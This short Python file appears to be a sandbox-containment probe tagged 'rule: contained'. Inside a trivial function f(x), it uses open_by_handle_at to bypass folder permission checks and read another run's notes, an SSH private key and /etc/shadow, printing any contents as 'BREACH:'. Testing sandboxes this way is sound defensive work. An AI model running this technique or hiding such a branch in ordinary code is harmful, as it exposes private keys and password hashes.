# rule: contained
# does: opens files by handle instead of by path, which asks no folder on the way for permission.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
TARGETS = ("@TMP@/another-run/notes.txt", "@HOME@/.ssh/id_ed25519", "/etc/shadow")


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("body", ctypes.c_ubyte * 128))


def f(x):
    if x == 0:
        for path in TARGETS:
            handle, mount = Handle(size=128), ctypes.c_int()
            if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
                continue
            for near in (os.path.dirname(path), "/", "."):
                folder = os.open(near, os.O_RDONLY)
                fd = libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)
                os.close(folder)
                if fd >= 0:
                    print("BREACH:", path, os.read(fd, 500))
                    break
    return x + 1
